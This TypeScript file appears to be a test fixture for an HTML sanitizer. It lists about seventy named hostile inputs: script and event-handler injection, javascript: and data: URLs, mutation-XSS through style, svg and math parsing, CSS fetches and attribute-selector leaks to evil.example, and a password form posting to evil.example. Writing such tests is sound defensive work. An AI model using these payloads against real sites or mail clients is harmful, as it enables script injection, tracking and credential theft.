/** What has been tried to get a script, a request or a disguise past those who clean HTML, each with a name. */
export const hostile: [string, string][] = [
  ['a script', '<p>x</p><script>run()</script>'],
  ['a script, odd case and spaces', '<ScRiPt\n>run()</sCrIpT >'],
  ['a script that nothing closes', '<script>run()'],
  ['a script with a slash', '<script/x>run()</script>'],
  ['a script in a script', '<scr<script>ipt>run()</scr</script>ipt>'],
  ['an outside script', '<script src=//evil.example/x.js></script>'],
  ['an event', '<img src=x onerror=run()>'],
  ['an event without quotes or space', '<img/src=x/onerror=run()>'],
  ['an event behind a quote', '<img alt="a" "onerror="run()" src=x>'],
  ['an event in a broken attribute', '<img src="x` `<script>run()</script>"` `>'],
  ['an event on the body', '<body onload=run()><p onclick=run() OnMouseOver=run()>x'],
  [
    'an event on what animates',
    '<style>@keyframes a{}</style><b style="animation-name:a" onanimationstart=run()>x',
  ],
  ['an event on details', '<details open ontoggle=run()>x</details>'],
  [
    'focus by itself',
    '<input autofocus onfocus=run()><select autofocus onfocus=run()><a id=x tabindex=1 onfocus=run()>',
  ],
  ['an address that runs', '<a href="javascript:run()">x</a>'],
  ['the same, disguised by space', '<a href=" \u0001java\tscr\nipt:run()">x</a>'],
  [
    'the same, as entities',
    '<a href="&#106;avascript&colon;run()">x</a><a href="jav&#x09;ascript:run()">y</a>',
  ],
  ['the same, by entities without end', '<a href="&#0000106&#0000097vascript:run()">x</a>'],
  [
    'other addresses that run',
    '<a href="vbscript:run()">x</a><a href="data:text/html,<script>run()</script>">y</a><a href="blob:https://x/y">z</a><a href="file:///etc/passwd">f</a>',
  ],
  [
    'an address of our own',
    '<a href="/api/v1/me">x</a><a href="?a">y</a><a href="#z">z</a><img src="/api/v1/me">',
  ],
  [
    'a picture that runs',
    '<img src="javascript:run()"><img src="data:text/html;base64,PHNjcmlwdD4="><img lowsrc="javascript:run()" dynsrc="javascript:run()">',
  ],
  ['a picture that is a document', '<img src="data:image/svg+xml,<svg onload=run()>">'],
  [
    'sets of pictures',
    '<img srcset="https://evil.example/1 1x, x onerror=run() 2x"><picture><source srcset="https://evil.example/2"></picture>',
  ],
  [
    'frames',
    '<iframe src="javascript:run()"></iframe><iframe srcdoc="<script>run()</script>"></iframe><frameset><frame src="//evil.example"></frameset>',
  ],
  ['a frame that nothing closes', '<iframe><img src=x onerror=run()>'],
  [
    'objects',
    '<object data="javascript:run()"></object><embed src="//evil.example/x.swf"><applet code=x></applet><param name=x value=y>',
  ],
  [
    'a form',
    '<form action="https://evil.example"><input name=password type=password><button formaction="javascript:run()">x</button></form>',
  ],
  [
    'another page after a while',
    '<meta http-equiv="refresh" content="0;url=javascript:run()"><meta http-equiv=refresh content="0;url=https://evil.example">',
  ],
  ['another base', '<base href="https://evil.example/"><a href="x">x</a>'],
  [
    'outside styles',
    '<link rel=stylesheet href="https://evil.example/x.css"><style>@import "https://evil.example/y.css"; @import url(https://evil.example/z.css);</style>',
  ],
  [
    'fetching ahead',
    '<link rel="dns-prefetch" href="//evil.example"><link rel=preload as=image href="//evil.example/x">',
  ],
  [
    'styles that run',
    '<p style="width:expression(run())">x</p><p style="-moz-binding:url(//evil.example/x#y);behavior:url(x.htc)">y</p>',
  ],
  [
    'styles that run, disguised',
    '<p style="width:exp/**/ression(run())">x</p><p style="w\\69 dth:\\65xpression(run())">y</p>',
  ],
  [
    'styles that fetch',
    '<p style="background:URL(  \'https://evil.example/a\'  )">x</p><p style="background:u\\72l(https://evil.example/b)">y</p><p style="background:image-set(\'https://evil.example/c\' 1x)">z</p>',
  ],
  [
    'styles that fetch, disguised',
    '<style>p{background:/**/url/**/(https://evil.example/a);background:\\75\\72\\6c(https://evil.example/b);cursor:url(//evil.example/c),auto}</style>',
  ],
  [
    'styles that fetch by variables',
    '<style>p{--a:url(https://evil.example/a);background:var(--a);background:-webkit-cross-fade(url(https://evil.example/b),url(https://evil.example/c),50%)}</style>',
  ],
  [
    'fonts that tell',
    '<style>@font-face{font-family:x;src:url(https://evil.example/f)}input[value^=a]{background:url(https://evil.example/a)}</style>',
  ],
  [
    'something over everything',
    '<div style="position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:9">x</div><style>div{position : FIXED}b{position:/**/fixed}i{posi\\tion:sticky}</style>',
  ],
  [
    'leaving a style',
    '<style>a{}</style/><img src=x onerror=run()></style><style><!--</style><img src=x onerror=run()>--></style>',
  ],
  ['leaving a style from within', '<style>p{content:"</style><img src=x onerror=run()>"}</style>'],
  ['leaving a style by an escape', '<style>p{content:"\\3c/style>\\3cimg src=x onerror=run()>"}</style>'],
  [
    'leaving a title',
    '<title></title/><img src=x onerror=run()></title><title><img src=x onerror=run()></title>',
  ],
  [
    'leaving a textarea',
    '<textarea></textarea/><img src=x onerror=run()></textarea><textarea><img title="</textarea><img src=x onerror=run()>">',
  ],
  ['leaving a noscript', '<noscript><p title="</noscript><img src=x onerror=run()>">'],
  [
    'leaving an xmp, noembed, noframes, plaintext',
    '<xmp><p title="</xmp><img src=x onerror=run()>"></xmp><noembed><p title="</noembed><img src=x onerror=run()>"></noembed><noframes><p title="</noframes><img src=x onerror=run()>"></noframes><plaintext><img src=x onerror=run()>',
  ],
  [
    'leaving a comment',
    '<!--><img src=x onerror=run()>--><!-- --!><img src=x onerror=run()>--><!--[if gte IE 4]><script>run()</script><![endif]-->',
  ],
  [
    'leaving a template',
    '<template><img src=x onerror=run()></template><template shadowrootmode=open><script>run()</script></template>',
  ],
  [
    'drawings',
    '<svg onload=run()><script>run()</script><a xlink:href="javascript:run()"><text>x</text></a></svg>',
  ],
  [
    'drawings that animate',
    '<svg><a><animate attributeName=href values="javascript:run()"/><text>x</text></a><set attributeName=onload to=run()></svg>',
  ],
  [
    'drawings with pages in them',
    '<svg><foreignObject><iframe src="javascript:run()"></iframe></foreignObject></svg>',
  ],
  ['drawings with styles', '<svg><style><img title="</style><img src=x onerror=run()>"></style></svg>'],
  [
    'drawings with titles',
    '<svg><title><style><img title="</style></title><img src=x onerror=run()>"></style></title></svg>',
  ],
  [
    'formulas',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=run()&gt;">',
  ],
  [
    'formulas with annotations',
    '<math><annotation-xml encoding="text/html"><style><img title="</style><img src=x onerror=run()>"></style></annotation-xml></math>',
  ],
  [
    'formulas that link',
    '<math><maction actiontype="statusline#http://x" xlink:href="javascript:run()">x</maction></math>',
  ],
  ['formulas out of tables', '<form><math><mtext></form><form><mglyph><style></math><img src onerror=run()>'],
  ['paragraphs in drawings', '<svg></p><style><a id="</style><img src=1 onerror=run()>">'],
  ['selects', '<select><option><style></option></select><img src=x onerror=run()></style>'],
  [
    'processing instructions and CDATA',
    '<?xml version="1.0"?><![CDATA[<img src=x onerror=run()>]]><?php <script>run()</script> ?>',
  ],
  [
    'namespaces',
    '<x:script xmlns:x="http://www.w3.org/1999/xhtml">run()</x:script><html:script>run()</html:script>',
  ],
  [
    'elements of one’s own',
    '<x-y onclick=run() is=x></x-y><slot name=x></slot><portal src="//evil.example"></portal>',
  ],
  ['zero bytes', '<scr\0ipt>run()</scr\0ipt><img src=x on\0error=run()><a href="java\0script:run()">x</a>'],
  [
    'names of the document',
    '<img name=documentElement src=x><form name=body><input name=attributes></form><a id=scrollHeight name=contentDocument>x</a>',
  ],
  [
    'our own marks',
    '<details class="earshot-fold" open><summary>x</summary></details><div class="earshot-quote-self earshot-cut" id="earshot-x" data-remote-pictures=9>y</div>',
  ],
  [
    'attributes that break out',
    '<p title=\'"><script>run()</script>\' lang="&quot;&gt;&lt;script&gt;run()&lt;/script&gt;" class="x&quot; onclick=&quot;run()">x</p>',
  ],
  [
    'pictures that break out',
    '<td background=\'cid:x"); background: url("https://evil.example/a\'>x</td><p style=\'background:url("https://evil.example/a\\");color:red")\'>y</p>',
  ],
  ['half a tag', '<img src=x onerror=run()//<'],
  ['odd letters', '<ſcript>run()</ſcript><ımg src=x onerror=run()><a href="ｊavascript:run()">x</a>'],
  ['text turned round', '<p>\u202egnp.exe\u202c</p><a href="https://good.example/\u202e">x</a>'],
];
